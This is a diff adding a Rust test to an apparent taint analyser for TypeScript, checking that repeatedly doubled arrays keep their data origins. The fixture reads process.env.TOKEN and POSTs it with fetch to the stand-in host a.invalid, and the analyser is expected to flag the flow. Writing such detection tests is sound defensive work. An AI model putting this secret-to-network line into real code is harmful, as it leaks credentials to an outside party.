@@ -185,3 +185,15 @@ proptest::proptest! {
         let _ = super::run(&String::from_utf8_lossy(&text), "a.ts");
     }
 }
+
+#[test]
+fn arrays_that_double_end_as_unknown_with_their_origins() {
+    // Without a bound, each of these would take more memory than there is.
+    for doubled in ["x = [...x, ...x];", "x = x.concat(x);", "x = x.concat(x).slice(0).map((one) => one);"] {
+        let source = format!(
+            "let x = [1, process.env.TOKEN];\n{}fetch('https://a.invalid/', {{ method: 'POST', body: x.join() }});",
+            format!("{doubled}\n").repeat(60)
+        );
+        check(&source, &["env_read:TOKEN -> net_send:https://a.invalid/"]);
+    }
+}
